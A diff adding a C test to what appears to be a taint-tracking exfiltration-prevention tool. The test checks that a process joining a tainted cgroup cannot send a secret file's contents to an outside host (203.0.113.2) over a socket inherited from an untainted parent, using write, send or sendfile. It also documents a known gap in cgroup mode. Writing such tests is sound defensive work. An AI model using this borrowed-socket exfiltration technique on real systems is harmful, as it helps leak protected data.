@@ -32,6 +32,7 @@
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
+#include <sys/sendfile.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -412,6 +413,106 @@ TEST_F_TIMEOUT(node, listed_gap_a_child_started_outside_the_workload_by_clone3, 
 
 /* Timeouts: each test builds a node; under emulation (the guest) that is slow. */
 
+
+/* ---- the sender decides, not the socket's birthplace ------------------ */
+
+#define BORROWED_DATA "tn-borrowed-socket-exfil"
+
+struct borrowed {
+	struct tn_node *n;
+	const char *secret;
+	int how;		/* 0 write(), 1 send(), 2 sendfile() */
+};
+
+/*
+ * Outside every workload, a process connects to the outside host (allowed:
+ * it is untainted), then hands the socket to a child that joins the
+ * workload, reads the secret and sends through the socket it was given —
+ * as an inherited, received or socket-activated socket would be used.
+ */
+static int send_on_a_borrowed_socket(void *arg)
+{
+	struct borrowed *b = arg;
+	struct sockaddr_storage ss;
+	socklen_t len;
+	int fd = socket(AF_INET, SOCK_STREAM, 0), st;
+	pid_t pid;
+
+	if (fd < 0 || sockaddr_of(OUT4, PORT, &ss, &len) < 0 ||
+	    connect(fd, (struct sockaddr *)&ss, len))
+		return 90;
+	pid = fork();
+	if (pid == 0) {
+		char procs[400];
+		off_t off = 0;
+		ssize_t r;
+		int sfd;
+
+		snprintf(procs, sizeof(procs), "%s/cgroup.procs", b->n->wl_cg);
+		if (write_file(procs, "0"))
+			_exit(91);
+		sfd = open(b->secret, O_RDONLY);
+		if (sfd < 0)
+			_exit(92);
+		if (b->how == 0)
+			r = write(fd, BORROWED_DATA, sizeof(BORROWED_DATA) - 1);
+		else if (b->how == 1)
+			r = send(fd, BORROWED_DATA, sizeof(BORROWED_DATA) - 1, MSG_NOSIGNAL);
+		else
+			r = sendfile(fd, sfd, &off, 8);
+		_exit(r < 0 ? errno & 0xff : 0);
+	}
+	if (pid < 0 || waitpid(pid, &st, 0) != pid)
+		return 93;
+	close(fd);
+	return WIFEXITED(st) ? WEXITSTATUS(st) : 94;
+}
+
+/* Bytes the outside listener got on its next connection (-1: none came). */
+static ssize_t bytes_received(int lfd)
+{
+	struct pollfd p = { .fd = lfd, .events = POLLIN };
+	char buf[256];
+	ssize_t got = 0, r;
+	int c;
+
+	if (poll(&p, 1, 3000) <= 0)
+		return -1;
+	c = accept(lfd, NULL, NULL);
+	if (c < 0)
+		return -1;
+	p.fd = c;
+	while (poll(&p, 1, 1500) > 0 && (r = read(c, buf, sizeof(buf))) > 0)
+		got += r;
+	close(c);
+	return got;
+}
+
+TEST_F_TIMEOUT(node, a_socket_made_outside_the_workload_carries_nothing_out_once_tainted, 180)
+{
+	struct borrowed b = { &self->n, data(&self->n, "secret"), 0 };
+	int lsm = node_lsm_mode(&self->n) || lsm_expected();
+	static const char *const how[] = { "write", "send", "sendfile" };
+
+	for (b.how = 0; b.how < 3; b.how++) {
+		int rc = in_cgroup(&self->n, NULL, send_on_a_borrowed_socket, &b);
+		ssize_t got = bytes_received(self->listeners[0]);
+
+		if (lsm) {
+			EXPECT_EQ(EPERM, rc) TH_LOG("%s", how[b.how]);
+			EXPECT_EQ(0, got) TH_LOG("%s: the outside host got %zd bytes", how[b.how], got);
+		} else {
+			/* The gap cgroup mode lists: judged by the socket's cgroup. */
+			EXPECT_EQ(0, rc) TH_LOG("%s", how[b.how]);
+			EXPECT_LT(0, got) TH_LOG("%s", how[b.how]);
+		}
+	}
+	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
+	if (lsm) {
+		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"sendmsg\"", "\"decision\":\"deny\"",
+				      "\"dest\":\"203.0.113.2:8080\""));
+	}
+}
 
 /* ==== launcher and socket families ===================================== */
 
